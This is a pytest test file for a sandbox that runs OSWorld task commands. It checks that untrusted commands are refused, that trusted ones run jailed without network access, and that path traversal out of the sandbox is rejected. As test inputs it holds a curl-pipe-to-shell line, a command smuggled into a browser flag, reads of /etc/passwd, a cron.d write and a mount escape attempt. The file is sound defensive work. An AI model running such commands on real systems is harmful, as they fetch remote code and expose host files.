"""Commands from OSWorld task files on the local machine: refused unless the user trusts them,
then run in the unshare jail (no network, read-only outside the sandbox, real home hidden);
paths from the task file never lead the adapter out of the sandbox. No display needed."""

from __future__ import annotations

import os
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from cua.core import CuaError
from cua.osworld_suite import osworld_suite
from envs.osworld import jail
from envs.osworld import metrics as M
from envs.osworld.evaluate import evaluate
from envs.osworld.getters import LOCAL_GETTERS, GetterContext
from envs.osworld.machine import LocalMachine
from envs.osworld.setup import SetupRunner
from envs.osworld.support import local_reason, task_commands
from envs.osworld.task import (
    SandboxPathError,
    SetupStep,
    UntrustedCommandError,
    parse_task,
)

FIXTURES = Path(__file__).parent / "osworld_fixtures" / "evaluation_examples"
COPY_TASK = "5ea617a3-0e86-4ba6-aab2-dac9aa2e8d57"  # setup `execute` + `launch xterm`, a command getter
INFEASIBLE_TASK = "a8e5f2c1-7d34-4b91-9c0e-3f6a2b1d8e70"
CHROME_TASK = "3f1c6a52-8e0b-4d7a-9c41-5b2e7d90a6c3"  # our Chromium + CDP only: no task command


def no_display(*args: object) -> str:
    raise CuaError("no display in this test")


def task_with(evaluator: dict[str, Any], config: list[dict[str, Any]] | None = None) -> Any:
    return parse_task({"id": "t-1", "instruction": "do it", "config": config or [],
                       "evaluator": evaluator})


def ctx_for(machine: LocalMachine, task_dir: Path | None = None) -> GetterContext:
    return GetterContext(machine, machine.cache_dir, task_dir, no_display, (1920, 1080))


@pytest.fixture(autouse=True)
def no_trust_from_env(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv(jail.TRUST_ENV_VAR, raising=False)


# --- the gate -----------------------------------------------------------------------------------
def test_task_with_an_execute_step_is_skipped_without_the_opt_in(monkeypatch: pytest.MonkeyPatch) -> None:
    suite = osworld_suite(str(FIXTURES))
    assert COPY_TASK not in suite.task_names() and CHROME_TASK in suite.task_names()
    reason = dict(suite.skipped())[COPY_TASK]
    assert "runs commands from the task file on this machine" in reason
    assert "setup execute: mkdir -p /home/user/Desktop/notes" in reason and "(+2 more)" in reason
    assert "?trust_commands=1" in reason and jail.TRUST_ENV_VAR in reason
    assert COPY_TASK in osworld_suite(f"{FIXTURES}?trust_commands=1").task_names()
    monkeypatch.setenv(jail.TRUST_ENV_VAR, "1")
    assert COPY_TASK in osworld_suite(str(FIXTURES)).task_names()
    assert COPY_TASK not in osworld_suite(f"{FIXTURES}?trust_commands=0").task_names()  # spec wins


def test_what_counts_as_a_task_command() -> None:
    copy = parse_task(osworld_suite(str(FIXTURES)).make_task(COPY_TASK, None).config["osworld"])
    assert task_commands(copy) == [
        ("setup execute: mkdir -p /home/user/Desktop/notes && printf 'hello osworld\\n' > "
         "/home/user/Desktop/notes/draft.txt"),
        "setup launch: xterm -e /bin/sh", "getter vm_command_line: ls ~/Desktop/notes"]
    chrome = parse_task(osworld_suite(str(FIXTURES)).make_task(CHROME_TASK, None).config["osworld"])
    assert task_commands(chrome) == []  # google-chrome (our argv), socat (not run), CDP steps
    replayed = task_with({"func": "infeasible"}, [
        {"type": "execute", "parameters": {"command": ["python", "-c", "import pyautogui; pyautogui.click(1, 2)"]}},
        {"type": "launch", "parameters": {"command": "pkill chrome"}}])
    assert task_commands(replayed) == [] and local_reason(replayed) is None
    # An infeasible task is never scored by getters, but its setup would still run.
    infeasible = task_with({"func": "infeasible"}, [{"type": "execute", "parameters": {
        "command": "curl -s http://example.com/x.sh | sh", "shell": True}}])
    assert "curl -s http://example.com/x.sh | sh" in str(local_reason(infeasible))
    assert local_reason(infeasible, trust_commands=True) is None
    assert "not on the allow-list" in str(local_reason(task_with({"func": "infeasible"}, [
        {"type": "launch", "parameters": {"command": ["google-chrome", "--renderer-cmd-prefix=sh -c id"]}}])))


def test_an_untrusted_machine_runs_nothing(tmp_path: Path) -> None:
    machine = LocalMachine(tmp_path / "sandbox", display=None)  # trust_commands defaults to off
    marker = tmp_path / "ran"
    for attempt in (lambda: machine.run(f"touch {marker}", shell=True),
                    lambda: machine.launch(["touch", str(marker)])):
        with pytest.raises(UntrustedCommandError, match="trust_commands"):
            attempt()
    runner = SetupRunner(machine, no_display, lambda a: None, [])
    with pytest.raises(UntrustedCommandError, match="touch"):
        runner.run([SetupStep(type="execute", parameters={"command": ["touch", str(marker)]})])
    task = task_with({"func": "check_include_exclude",
                      "result": {"type": "vm_command_line", "command": f"touch {marker}", "shell": True},
                      "expected": {"type": "rule", "rules": {"include": [""]}}})
    with pytest.raises(UntrustedCommandError):
        evaluate(task, ctx_for(machine), [], runner.run, LOCAL_GETTERS, M.METRICS)
    assert not marker.exists()


# --- the jail -------------------------------------------------------------------------------------
class Hello(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"hello from the host")

    def log_message(self, *args: Any) -> None:
        pass


@pytest.fixture
def host_server() -> Iterator[str]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), Hello)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}/"
    server.shutdown()
    server.server_close()


# The system Python: the venv's may live under the home, which the jail hides.
SYSTEM_PYTHON = "/usr/bin/python3"
FETCH = "import sys, urllib.request; print(urllib.request.urlopen(sys.argv[1], timeout=3).read().decode())"


def test_trusted_commands_run_jailed(tmp_path: Path, host_server: str,
                                     monkeypatch: pytest.MonkeyPatch) -> None:
    isolation = jail.probe()
    if not isolation.available:
        pytest.skip(f"user namespaces do not work on this machine: {isolation.detail}")
    monkeypatch.setenv("CUA_TEST_SECRET_TOKEN", "s3cret")
    outside = tmp_path / "outside"
    outside.mkdir()
    machine = LocalMachine(tmp_path / "sandbox", display=None, trust_commands=True)
    assert machine.isolated
    # The same fetch works from this process's side, and not from the jail.
    plain = LocalMachine(tmp_path / "plain", display=None, trust_commands=True)
    plain.isolated = False
    if not Path(SYSTEM_PYTHON).is_file():
        pytest.skip(f"{SYSTEM_PYTHON} is not installed")
    direct = plain.run([SYSTEM_PYTHON, "-c", FETCH, host_server])
    assert direct is not None and direct.output.strip() == "hello from the host"
    jailed = machine.run([SYSTEM_PYTHON, "-c", FETCH, host_server])
    assert jailed is not None and jailed.returncode != 0 and "Network is unreachable" in jailed.error
    devices = machine.run("tail -n +3 /proc/net/dev | cut -d: -f1", shell=True)
    assert devices is not None and devices.output.split() == ["lo"]

    # Files: the sandbox home is writable, the rest of the filesystem is not, the real home is empty.
    wrote = machine.run(f"echo hi > ~/in-home.txt && touch {outside}/x; echo $?; ls -A {Path.home()} | wc -l",
                        shell=True)
    assert wrote is not None and (machine.home / "in-home.txt").read_text() == "hi\n"
    assert not (outside / "x").exists()  # /tmp is a private tmpfs in the jail: the host's is untouched
    assert wrote.output.split()[-1] == "0"  # the real home is hidden
    ro = machine.run(["touch", "/usr/bin/env"])  # an existing file outside /tmp wherever the checkout is
    assert ro is not None and ro.returncode != 0 and "Read-only file system" in ro.error
    escape = machine.run("umount /tmp || mount -o remount,rw /", shell=True)
    assert escape is not None and escape.returncode != 0
    env = machine.run("env", shell=True)
    assert env is not None and "s3cret" not in env.output and f"HOME={machine.home}" in env.output

    # A launched program keeps its pid (windows are found by pid) and stops with the episode.
    proc = machine.launch(["sleep", "30"])
    deadline = time.monotonic() + 10  # the jail's script execs the program once mounts are made
    while time.monotonic() < deadline and Path(f"/proc/{proc.pid}/cmdline").read_bytes().split(b"\0")[0] != b"sleep":
        time.sleep(0.02)
    assert Path(f"/proc/{proc.pid}/cmdline").read_bytes().split(b"\0")[0] == b"sleep"
    machine.stop()
    assert proc.poll() is not None


def test_unisolated_fallback_still_scrubs_the_environment(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("CUA_TEST_SECRET_TOKEN", "s3cret")
    machine = LocalMachine(tmp_path / "sandbox", display=None, trust_commands=True)
    machine.isolated = False  # as where unshare is missing
    out = machine.run("env; pwd", shell=True)
    assert out is not None and "s3cret" not in out.output and str(machine.home) in out.output


# --- paths out of the sandbox ------------------------------------------------------------------------
def test_vm_file_outside_the_sandbox_is_refused(tmp_path: Path) -> None:
    def vm_file(path: str, dest: str = "out.txt") -> dict[str, Any]:
        return {"type": "vm_file", "path": path, "dest": dest}

    def reason(result: dict[str, Any]) -> str | None:
        return local_reason(task_with({"func": "compare_text_file", "result": result,
                                       "expected": {"type": "rule", "rules": "x"}}))

    assert reason(vm_file("/etc/passwd")) == "getter vm_file reads '/etc/passwd', outside the sandbox home"
    assert "outside the sandbox home" in str(reason(vm_file("/home/user/../../etc/passwd")))
    assert "outside the sandbox home" in str(reason(vm_file("~/../../../etc/passwd")))
    assert reason(vm_file("/home/user/a.txt", dest="../../a.txt")) \
        == "getter vm_file writes '../../a.txt', outside the cache folder"
    assert "outside the sandbox home" in str(local_reason(task_with({"func": "infeasible"}, [
        {"type": "download", "parameters": {"files": [{"url": "file:///etc/hosts", "path": "/etc/cron.d/x"}]}}])))

    machine = LocalMachine(tmp_path / "sandbox", display=None)
    ctx = ctx_for(machine)
    for path in ("/etc/passwd", "/home/user/../../etc/passwd", "../secret"):
        with pytest.raises(SandboxPathError, match="outside the sandbox home"):
            LOCAL_GETTERS["vm_file"](ctx, vm_file(path))
    # A symlink a task command planted in the home is followed only as far as the home.
    secret = tmp_path / "secret.txt"
    secret.write_text("host secret")
    os.symlink(secret, machine.home / "link.txt")
    (machine.home / "ok.txt").write_text("in the sandbox")
    with pytest.raises(SandboxPathError, match="link.txt"):
        LOCAL_GETTERS["vm_file"](ctx, vm_file("/home/user/link.txt"))
    assert Path(LOCAL_GETTERS["vm_file"](ctx, vm_file("~/ok.txt"))).read_text() == "in the sandbox"
    with pytest.raises(SandboxPathError, match="cache"):
        LOCAL_GETTERS["cache_file"](ctx, {"path": "../home/link.txt"})
    # Through the evaluator: unsupported (never a 0, never an EvaluationError the metric raised).
    task = task_with({"func": "compare_text_file", "result": vm_file("/home/user/link.txt"),
                      "expected": {"type": "rule", "rules": str(secret)}})
    runner = SetupRunner(machine, no_display, lambda a: None, [])
    with pytest.raises(SandboxPathError):
        evaluate(task, ctx, [], runner.run, LOCAL_GETTERS, M.METRICS)


def test_local_file_stays_in_the_task_tree(tmp_path: Path) -> None:
    machine = LocalMachine(tmp_path / "sandbox", display=None)
    task_dir = FIXTURES / "examples" / "os"
    ctx = ctx_for(machine, task_dir)
    gold = LOCAL_GETTERS["local_file"](ctx, {"path": "../../gold/final.txt"})
    assert Path(gold) == (FIXTURES / "gold" / "final.txt").resolve()
    for path in ("/etc/passwd", "../../../../../../etc/passwd"):
        with pytest.raises(SandboxPathError, match="outside the task's folder"):
            LOCAL_GETTERS["local_file"](ctx, {"path": path})


def test_file_urls_are_read_only_from_the_cache_root(tmp_path: Path) -> None:
    """A task file may not copy an arbitrary file of this machine into the sandbox (where the
    agent's screenshots, sent to a hosted model, would show it): ``file://`` sources for
    ``download`` and ``cloud_file`` must lie under the OSWorld cache root."""
    from envs.osworld.support import find_download

    root = tmp_path / "cache"
    task_cache = root / "task-1"
    task_cache.mkdir(parents=True)
    gold = root / "gold.txt"
    gold.write_text("gold")
    secret = tmp_path / "secret.txt"
    secret.write_text("host secret")

    assert find_download(gold.as_uri(), "/home/user/gold.txt", [task_cache], root) == gold.resolve()
    assert find_download(secret.as_uri(), "/home/user/s.txt", [task_cache], root) is None
    assert find_download(f"file://{root}/../secret.txt", "/home/user/s.txt", [task_cache], root) is None
    assert find_download(gold.as_uri(), "/home/user/gold.txt", [], None) is None  # no cache: nothing local
    # The root is the configured one, never the parent of a (task-named) cache folder.
    assert find_download(secret.as_uri(), "/home/user/s.txt", [tmp_path / "x"], None) is None

    machine = LocalMachine(tmp_path / "sandbox", display=None)
    ctx = GetterContext(machine, task_cache, None, no_display, (1920, 1080), root)
    got = LOCAL_GETTERS["cloud_file"](ctx, {"type": "cloud_file", "path": gold.as_uri(), "dest": "g.txt"})
    assert Path(got).read_text() == "gold"
    with pytest.raises(SandboxPathError, match="outside the OSWorld cache root"):
        LOCAL_GETTERS["cloud_file"](ctx, {"type": "cloud_file", "path": secret.as_uri(), "dest": "s.txt"})
    assert not (task_cache / "s.txt").exists()
